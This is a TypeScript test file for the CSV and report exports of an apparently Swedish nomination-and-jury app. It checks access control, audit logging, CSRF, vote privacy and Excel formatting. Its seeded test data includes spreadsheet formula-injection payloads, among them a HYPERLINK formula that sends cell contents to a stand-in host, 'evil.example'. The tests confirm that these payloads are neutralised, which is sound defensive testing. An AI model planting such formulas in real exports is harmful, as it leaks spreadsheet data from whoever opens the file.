import { translate } from '../../src/i18n';
import { createTestContext, visibleText, type Agent, type TestContext } from '../helpers/context';
import { neutralise, toCsv } from '../../src/exports/csv';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestContext();
});
afterAll(async () => {
  await ctx.close();
});

const DAY = 24 * 60 * 60 * 1000;
const BOM = '\uFEFF';
const userId = async (email: string) => Number((await ctx.db('users').where({ email }).first()).id);
const currentEdition = async () => ctx.db('editions').whereNull('archived_at').orderBy('year', 'desc').first();

/** Reads a CSV response as Excel would (RFC 4180 with ";"): BOM, quoted fields, CRLF rows. */
function readCsv(text: string): string[][] {
  expect(text.startsWith(BOM)).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.slice(1);
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ';') row.push(cell), (cell = '');
    else if (c === '\r' && body[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  expect(cell).toBe('');
  expect(new Set(rows.map((r) => r.length)).size).toBe(1);
  return rows;
}

/** Exports are POSTs from the exports page (each is audited; a GET changes nothing). */
async function download(agent: Agent, path: string, year?: string) {
  const _csrf = await agent.csrf();
  return agent.post(path).type('form').send({ _csrf, ...(year ? { year } : {}) });
}

describe('CSV for Excel (R3)', () => {
  test('when a cell starts with a formula character, then it is prefixed with a quote; other text is untouched', () => {
    expect(neutralise('=HYPERLINK("http://evil.example","klicka")')).toBe('\'=HYPERLINK("http://evil.example","klicka")');
    for (const c of ['+', '-', '@', '\t', '\r']) expect(neutralise(`${c}1+1`)).toBe(`'${c}1+1`);
    expect(neutralise('Åsa – ärlig lärdom')).toBe('Åsa – ärlig lärdom');
  });

  test('when text has semicolons, quotes and line breaks, then each stays in its own cell', () => {
    const csv = toCsv(['a', 'b'], [['x; "y"\nz', 3]]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(readCsv(csv)).toEqual([['a', 'b'], ['x; "y"\nz', '3']]);
  });
});

describe('exports (R3)', () => {
  let hostileId: number;
  beforeAll(async () => {
    const now = ctx.clock.now();
    const edition = await currentEdition();
    const [row] = await ctx.db('nominations')
      .insert({
        edition_id: edition.id,
        submitter_id: await userId('goran@example.org'),
        status: 'published',
        title: '=HYPERLINK("http://evil.example/?"&A1,"Klicka här")',
        what_happened: '@SUM(1+1)',
        lesson: 'Vi lärde oss att åäö och ÅÄÖ ska synas rätt; även "citat".',
        changes: '-2+3',
        search_text: '',
        submitted_at: now,
        published_at: now,
        created_at: now,
        updated_at: now,
      })
      .returning('id');
    hostileId = Number(typeof row === 'object' ? row.id : row);
  });

  test('when an employee asks for an export, then they are refused', async () => {
    const agent = await ctx.signIn('anna@example.org');
    const page = await agent.get('/admin/exports');
    expect(page.status).toBe(403);
    for (const url of ['/admin/exports/entries.csv', '/admin/exports/scores.csv', '/admin/exports/finalists']) {
      const res = await download(agent, url);
      expect([url, res.status]).toEqual([url, 403]);
      expect(res.text).not.toContain('HYPERLINK');
    }
  });

  test('when an admin exports the entries, then Excel gets UTF-8 with BOM, semicolons, å/ä/ö, and the =HYPERLINK cell is harmless', async () => {
    const agent = await ctx.signIn('admin@example.org');
    const res = await download(agent, '/admin/exports/entries.csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="?arets-misstag-\d{4}-bidrag\.csv"?/);
    const rows = readCsv(res.text);
    expect(rows[0].slice(0, 4)).toEqual(['Nr', 'Omgång', 'Status', 'Rubrik']);
    const hostile = rows.find((r) => r[0] === String(hostileId))!;
    expect(hostile[3]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Klicka här")');
    expect(hostile[9]).toBe("'@SUM(1+1)");
    expect(hostile[10]).toBe('Vi lärde oss att åäö och ÅÄÖ ska synas rätt; även "citat".');
    expect(hostile[11]).toBe("'-2+3");
    expect(hostile[6]).toBe('Göran Åberg');
    // No cell anywhere starts with a formula character.
    expect(rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // Drafts are not exported.
    expect(rows.some((r) => r[2] === 'utkast')).toBe(false);
  });

  test('when an admin exports, then the audit log has a line naming the export', async () => {
    const lines = await ctx.db('audit_log').where({ action: 'export.entries' });
    expect(lines.length).toBeGreaterThanOrEqual(1);
    expect(lines[0].actor_id).toBe(await userId('admin@example.org'));
    expect(JSON.parse(lines[0].details).rows).toBeGreaterThan(10);
  });

  test('when voting is open, then vote counts per entry cannot be exported and the page says why', async () => {
    const agent = await ctx.signIn('admin@example.org');
    const res = await download(agent, '/admin/exports/votes.csv');
    expect(res.status).toBe(409);
    expect(visibleText(res.text)).toContain('först när röstningen har stängt');
    const page = visibleText((await agent.get('/admin/exports')).text);
    expect(page).toContain('först när röstningen har stängt');
    expect(await ctx.db('audit_log').where({ action: 'export.votes' })).toHaveLength(0);
  });

  test('when voting has closed, then vote counts are exported with counts only, never voters', async () => {
    const edition = await currentEdition();
    const entries = await ctx.db('nominations').where({ edition_id: edition.id, status: 'published' }).orderBy('id').limit(2);
    await ctx.db('votes').insert({ edition_id: edition.id, nomination_id: entries[0].id, voter_id: await userId('bo@example.org'), slot: 1, created_at: ctx.clock.now() });
    await ctx.db('votes').insert({ edition_id: edition.id, nomination_id: entries[0].id, voter_id: await userId('eva@example.org'), slot: 1, created_at: ctx.clock.now() });
    const start = ctx.clock.now();
    ctx.clock.advance(21.5 * DAY); // voting closes after 21 days in the demo
    try {
      const agent = await ctx.signIn('admin@example.org');
      const res = await download(agent, '/admin/exports/votes.csv');
      expect(res.status).toBe(200);
      const rows = readCsv(res.text);
      expect(rows[0]).toEqual(['Nr', 'Rubrik', 'Förvaltning', 'Röster']);
      expect(rows.find((r) => r[0] === String(entries[0].id))![3]).toBe('2');
      expect(res.text).not.toMatch(/Bo Ekström|Eva Sjöberg|bo@example|eva@example/);
    } finally {
      ctx.clock.set(start);
    }
  });

  test('when an admin exports jury scores, then each score is a row with the juror and criterion, and private notes are left out', async () => {
    const edition = await currentEdition();
    const entry = await ctx.db('nominations').where({ edition_id: edition.id, status: 'published' }).orderBy('id').first();
    const criteria = await ctx.db('criteria').where({ edition_id: edition.id }).orderBy('sort_order');
    const david = await userId('david@example.org');
    for (const c of criteria) await ctx.db('scores').insert({ nomination_id: entry.id, juror_id: david, criterion_id: c.id, value: 4, updated_at: ctx.clock.now() });
    await ctx.db('jury_reviews').insert({ nomination_id: entry.id, juror_id: david, note: 'Hemlig anteckning', submitted_at: ctx.clock.now(), updated_at: ctx.clock.now() });
    const agent = await ctx.signIn('admin@example.org');
    const res = await download(agent, '/admin/exports/scores.csv');
    const rows = readCsv(res.text);
    expect(rows[0]).toEqual(['Nr', 'Rubrik', 'Jurymedlem', 'Kriterium', 'Vikt', 'Poäng', 'Bedömningen inskickad']);
    const mine = rows.filter((r) => r[2] === 'David Holm');
    expect(mine.map((r) => r[3])).toEqual(['Mod', 'Lärdom', 'Spridning', 'Utmaning']);
    expect(mine.find((r) => r[3] === 'Lärdom')![4]).toBe('1,5');
    expect(res.text).not.toContain('Hemlig anteckning');
    expect(await ctx.db('audit_log').where({ action: 'export.scores' })).toHaveLength(1);
  });

  test('when the export is asked in English, then the headers are English', async () => {
    const agent = await ctx.signIn('admin@example.org');
    await agent.chooseLocale('en');
    const rows = readCsv((await download(agent, '/admin/exports/entries.csv')).text);
    expect(rows[0].slice(0, 4)).toEqual(['No.', 'Edition', 'Status', 'Title']);
    await agent.chooseLocale('sv');
  });

  test('when an admin opens the finalists report, then it lists ranked entries with their lesson, and it is audited', async () => {
    const agent = await ctx.signIn('admin@example.org');
    const res = await download(agent, '/admin/exports/finalists');
    expect(res.status).toBe(200);
    const text = visibleText(res.text);
    expect(text).toContain('Finalistrapport');
    expect(text).toContain('Finalisterna är inte valda ännu');
    expect(text).toContain('Lärdomen');
    // The statistic has its own name: "Spridning" is a criterion.
    expect(translate('sv', 'report.spread')).toBe('Skillnad mellan jurymedlemmarna');
    // Voting is open: no vote column (V3).
    expect(res.text).not.toMatch(/<th scope="col" class="num">Röster<\/th>/);
    expect(await ctx.db('audit_log').where({ action: 'export.finalists' })).toHaveLength(1);
  });

  test('when an export is asked for with a GET (a link, a prefetch), then nothing is exported or audited', async () => {
    const agent = await ctx.signIn('admin@example.org');
    const before = (await ctx.db('audit_log').where('action', 'like', 'export.%')).length;
    for (const url of ['/admin/exports/entries.csv', '/admin/exports/scores.csv', '/admin/exports/finalists']) {
      const res = await agent.get(url);
      expect([url, res.status]).toEqual([url, 404]);
      expect(res.text).not.toContain('HYPERLINK');
    }
    expect((await ctx.db('audit_log').where('action', 'like', 'export.%')).length).toBe(before);
  });

  test('when an export is posted without the CSRF token, then it is refused and not audited', async () => {
    const agent = await ctx.signIn('admin@example.org');
    const before = (await ctx.db('audit_log').where('action', 'like', 'export.%')).length;
    const res = await agent.post('/admin/exports/entries.csv').type('form').send({});
    expect(res.status).toBe(403);
    expect(res.text).not.toContain('HYPERLINK');
    expect((await ctx.db('audit_log').where('action', 'like', 'export.%')).length).toBe(before);
  });

  test('when the exports page is opened, then each export is a form that posts the chosen year', async () => {
    const agent = await ctx.signIn('admin@example.org');
    const html = (await agent.get('/admin/exports')).text;
    for (const action of ['/admin/exports/entries.csv', '/admin/exports/scores.csv', '/admin/exports/finalists']) {
      expect(html).toMatch(new RegExp(`<form method="post" action="${action.replace(/\./g, '\\.')}"[^>]*><input type="hidden" name="_csrf" value="[^"]+"><input type="hidden" name="year" value="\\d{4}">`));
    }
  });

  test('when an unknown year is asked for, then 404 and nothing is audited', async () => {
    const agent = await ctx.signIn('admin@example.org');
    const before = (await ctx.db('audit_log').where('action', 'like', 'export.%')).length;
    expect((await download(agent, '/admin/exports/entries.csv', '1999')).status).toBe(404);
    expect((await download(agent, '/admin/exports/entries.csv', 'abcd')).status).toBe(404);
    expect((await ctx.db('audit_log').where('action', 'like', 'export.%')).length).toBe(before);
  });
});
